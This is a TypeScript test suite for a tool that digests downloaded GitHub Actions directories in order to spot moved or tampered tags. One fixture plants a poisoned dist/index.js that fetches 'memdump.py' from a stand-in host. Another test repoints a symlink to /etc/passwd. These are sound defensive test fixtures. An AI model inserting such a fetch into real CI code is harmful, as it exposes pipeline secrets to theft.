import assert from 'node:assert/strict';
import { chmod, mkdir, mkdtemp, rm, symlink, unlink, utimes, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { actionDirectoryDigests, actionsRootFromEnv, type ActionDigest } from '../../src/context/action-digests.js';
import { digestTree } from '../../src/context/tree-digest.js';

type Node = { file: string; mode?: number } | { link: string } | { dir: true };

/** Builds a tree from a path → node map, in the order given (tests reverse it to vary creation order). */
async function build(root: string, nodes: [string, Node][]): Promise<void> {
  for (const [path, node] of nodes) {
    const full = join(root, path);
    await mkdir(dirname(full), { recursive: true });
    if ('dir' in node) await mkdir(full, { recursive: true });
    else if ('link' in node) await symlink(node.link, full);
    else {
      await writeFile(full, node.file);
      await chmod(full, node.mode ?? 0o644);
    }
  }
}

const ACTION: [string, Node][] = [
  ['action.yml', { file: 'name: changed-files\nruns:\n  using: node20\n  main: dist/index.js\n' }],
  ['dist/index.js', { file: 'console.log("hello")\n' }],
  ['dist/licenses.txt', { file: 'MIT\n' }],
  ['scripts/run.sh', { file: '#!/bin/sh\necho run\n', mode: 0o755 }],
  ['scripts/current', { link: 'run.sh' }],
  ['empty', { dir: true }],
];

const budget = () => ({ entries: 20_000, bytes: 500 * 1024 * 1024 });

describe('digestTree', () => {
  let dir: string;
  beforeEach(async () => {
    dir = await mkdtemp(join(tmpdir(), 'pipewatch-tree-'));
  });
  afterEach(async () => {
    await rm(dir, { recursive: true, force: true });
  });

  async function digestOf(name: string, nodes: [string, Node][]): Promise<string> {
    await build(join(dir, name), nodes);
    const result = await digestTree(join(dir, name), budget());
    assert.equal(result.truncated, undefined);
    assert.match(result.digest ?? '', /^sha256:[0-9a-f]{64}$/);
    return result.digest as string;
  }

  it('counts files and symlinks, and bytes', async () => {
    await build(join(dir, 'a'), ACTION);
    const result = await digestTree(join(dir, 'a'), budget());
    assert.equal(result.files, 5);
    const contentBytes = ACTION.reduce((sum, [, node]) => sum + ('file' in node ? Buffer.byteLength(node.file) : 0), 0);
    assert.equal(result.bytes, contentBytes);
  });

  it('is the same for the same content created in another order, or with other mtimes', async () => {
    const first = await digestOf('a', ACTION);
    const second = await digestOf('b', [...ACTION].reverse());
    assert.equal(first, second);
    await utimes(join(dir, 'b', 'dist', 'index.js'), new Date('2001-01-01'), new Date('2001-01-01'));
    await utimes(join(dir, 'b', 'dist'), new Date('2002-01-01'), new Date('2002-01-01'));
    assert.equal((await digestTree(join(dir, 'b'), budget())).digest, first);
  });

  it('changes with one byte of content', async () => {
    const base = await digestOf('a', ACTION);
    const changed = ACTION.map(([path, node]): [string, Node] => [path, path === 'dist/index.js' ? { file: 'console.log("hellp")\n' } : node]);
    assert.notEqual(await digestOf('b', changed), base);
  });

  it('changes with the executable bit, not with other mode bits', async () => {
    const base = await digestOf('a', ACTION);
    await build(join(dir, 'b'), ACTION);
    await chmod(join(dir, 'b', 'dist', 'index.js'), 0o600);
    assert.equal((await digestTree(join(dir, 'b'), budget())).digest, base, 'read/write bits do not count');
    await chmod(join(dir, 'b', 'dist', 'index.js'), 0o744);
    assert.notEqual((await digestTree(join(dir, 'b'), budget())).digest, base);
  });

  it('changes with a symlink target, and when a link replaces its target file', async () => {
    const base = await digestOf('a', ACTION);
    await build(join(dir, 'b'), ACTION);
    await unlink(join(dir, 'b', 'scripts', 'current'));
    await symlink('/etc/passwd', join(dir, 'b', 'scripts', 'current'));
    assert.notEqual((await digestTree(join(dir, 'b'), budget())).digest, base);
    const replaced = ACTION.map(([path, node]): [string, Node] => [path, path === 'scripts/current' ? { file: 'run.sh' } : node]);
    assert.notEqual(await digestOf('c', replaced), base);
  });

  it('changes when an empty directory or file is added, or a file is renamed', async () => {
    const base = await digestOf('a', ACTION);
    assert.notEqual(await digestOf('b', [...ACTION, ['more', { dir: true }]]), base);
    assert.notEqual(await digestOf('c', [...ACTION, ['dist/x', { file: '' }]]), base);
    const renamed = ACTION.map(([path, node]): [string, Node] => [path === 'dist/licenses.txt' ? 'dist/license.txt' : path, node]);
    assert.notEqual(await digestOf('d', renamed), base);
  });

  it('gives no digest once the budget runs out', async () => {
    await build(join(dir, 'a'), ACTION);
    const fewEntries = await digestTree(join(dir, 'a'), { entries: 3, bytes: 1e9 });
    assert.equal(fewEntries.truncated, true);
    assert.equal(fewEntries.digest, undefined);
    const fewBytes = await digestTree(join(dir, 'a'), { entries: 100, bytes: 50 });
    assert.equal(fewBytes.truncated, true);
    assert.equal(fewBytes.digest, undefined);
  });
});

describe('actionDirectoryDigests', () => {
  let root: string;
  beforeEach(async () => {
    root = await mkdtemp(join(tmpdir(), 'pipewatch-actions-'));
  });
  afterEach(async () => {
    await rm(root, { recursive: true, force: true });
  });

  /** Lays an action out the way the runner does: `<owner>/<repo>/<ref>/` plus `<ref>.completed` beside it. */
  async function download(action: string, ref: string, nodes: [string, Node][] = ACTION): Promise<void> {
    await build(join(root, action, ref), nodes);
    await writeFile(join(root, action, `${ref}.completed`), '');
  }

  const byAction = (digests: ActionDigest[]) => Object.fromEntries(digests.map((d) => [d.action, d]));

  it('lists each owner/repo@ref with a digest, sorted, skipping watermarks and the runner temp dirs', async () => {
    await download('tj-actions/changed-files', 'v45');
    await download('actions/checkout', 'v4', [['action.yml', { file: 'name: checkout\n' }]]);
    await download('actions/checkout', '11bd71901bbe5b1630ceea73d27597364c9af683', [['action.yml', { file: 'name: checkout\n' }]]);
    await build(join(root, '_temp_7f0c'), [['x.tar.gz', { file: 'partial' }], ['unpacked/repo/action.yml', { file: 'x' }]]);
    const digests = await actionDirectoryDigests(root);
    assert.deepEqual(
      digests.map((d) => d.action),
      ['actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683', 'actions/checkout@v4', 'tj-actions/changed-files@v45'],
    );
    const map = byAction(digests);
    assert.equal(map['actions/checkout@v4']?.digest, map['actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683']?.digest);
    assert.equal(map['tj-actions/changed-files@v45']?.files, 5);
    assert.ok(digests.every((d) => d.digest && !d.truncated));
  });

  it('shows a moved tag: same owner/repo@ref, other content, other digest', async () => {
    await download('tj-actions/changed-files', 'v45');
    const before = byAction(await actionDirectoryDigests(root))['tj-actions/changed-files@v45']?.digest;
    await rm(join(root, 'tj-actions'), { recursive: true });
    const poisoned = ACTION.map(([path, node]): [string, Node] =>
      [path, path === 'dist/index.js' ? { file: 'console.log("hello")\nfetch("https://gist.example/memdump.py")\n' } : node]);
    await download('tj-actions/changed-files', 'v45', poisoned);
    const after = byAction(await actionDirectoryDigests(root))['tj-actions/changed-files@v45']?.digest;
    assert.ok(before && after);
    assert.notEqual(after, before);
  });

  it('handles slashed refs and unmarked (interrupted) downloads', async () => {
    await download('octo/tool', 'releases/v1');
    await build(join(root, 'octo/tool/releases/v2'), [['action.yml', { file: 'half' }]]);
    await build(join(root, 'octo/other/main'), ACTION);
    const digests = await actionDirectoryDigests(root);
    assert.deepEqual(digests.map((d) => d.action), ['octo/other@main', 'octo/tool@releases/v1', 'octo/tool@releases/v2']);
    assert.equal(byAction(digests)['octo/other@main']?.files, 5, 'an unmarked ref dir is one action, not one per subdirectory');
  });

  it('follows a ref directory that is a symlink into the action cache', async () => {
    await build(join(root, '..', `${root.split('/').pop()}-cache`, 'checkout-sha'), ACTION);
    const cache = join(root, '..', `${root.split('/').pop()}-cache`, 'checkout-sha');
    try {
      await mkdir(join(root, 'actions', 'checkout'), { recursive: true });
      await symlink(cache, join(root, 'actions', 'checkout', 'v4'));
      await writeFile(join(root, 'actions', 'checkout', 'v4.completed'), '');
      await download('actions/setup-node', 'v4');
      const map = byAction(await actionDirectoryDigests(root));
      assert.equal(map['actions/checkout@v4']?.digest, map['actions/setup-node@v4']?.digest);
    } finally {
      await rm(dirname(cache), { recursive: true, force: true });
    }
  });

  it('bounds the whole call: later actions are listed truncated, without a digest', async () => {
    await download('a/one', 'v1');
    await download('b/two', 'v1');
    const digests = await actionDirectoryDigests(root, { maxFiles: 8 });
    assert.ok(byAction(digests)['a/one@v1']?.digest);
    assert.equal(byAction(digests)['b/two@v1']?.truncated, true);
    assert.equal(byAction(digests)['b/two@v1']?.digest, undefined);
  });

  it('gives an empty list when no action was downloaded', async () => {
    assert.deepEqual(await actionDirectoryDigests(join(root, 'missing')), []);
  });
});

describe('actionsRootFromEnv', () => {
  it('is the work directory\'s _actions, beside the repository workspace', () => {
    assert.equal(actionsRootFromEnv({ RUNNER_WORKSPACE: '/home/runner/work/app' }), '/home/runner/work/_actions');
    assert.equal(actionsRootFromEnv({ RUNNER_WORKSPACE: '/__w/app' }), '/__w/_actions');
    assert.equal(actionsRootFromEnv({}), undefined);
  });
});
